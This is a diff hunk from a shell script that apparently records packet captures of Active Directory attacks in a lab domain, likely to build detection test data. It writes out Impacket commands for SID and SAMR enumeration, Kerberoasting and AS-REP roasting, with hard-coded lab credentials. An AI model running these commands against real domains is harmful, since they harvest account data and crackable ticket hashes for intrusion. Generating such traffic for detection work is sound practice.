@@ -60,7 +60,7 @@ want dcsync && record dcsync/miss-lookup.pcap $py $tools/lookupsid.py 'EXAMPLE/l
 want domain-enumeration && record domain-enumeration/lookupsid.pcap $py $tools/lookupsid.py 'EXAMPLE/li:Spring2019.@10.42.1.10' 1200
 want domain-enumeration && record domain-enumeration/samrdump.pcap $py $tools/samrdump.py 'EXAMPLE/li:Spring2019.@10.42.1.10'
 want domain-enumeration && record domain-enumeration/miss-shares.pcap smbclient -s /dev/null -L //10.42.1.10 -U 'EXAMPLE/li%Spring2019.'
-want kerberoast && record kerberoast/getuserspns.pcap env -u KRB5CCNAME $py $tools/GetUserSPNs.py -k -dc-ip 10.42.1.10 -request 'EXAMPLE.LAN/li:Spring2019.'
+want kerberoast && record kerberoast/service-ticket.pcap $py "$here/domain.py" roast 10.42.1.10
 want kerberoast && record kerberoast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN && kvno ldap/dc01.example.lan@EXAMPLE.LAN && kvno MSSQLSvc/db01.example.lan:1433'
 want asrep-roast && record asrep-roast/getnpusers.pcap $py $tools/GetNPUsers.py -dc-ip 10.42.1.10 -no-pass -format hashcat EXAMPLE.LAN/oldapp
 want asrep-roast && record asrep-roast/miss-kinit.pcap bash -c 'echo Spring2019. | kinit li@EXAMPLE.LAN'
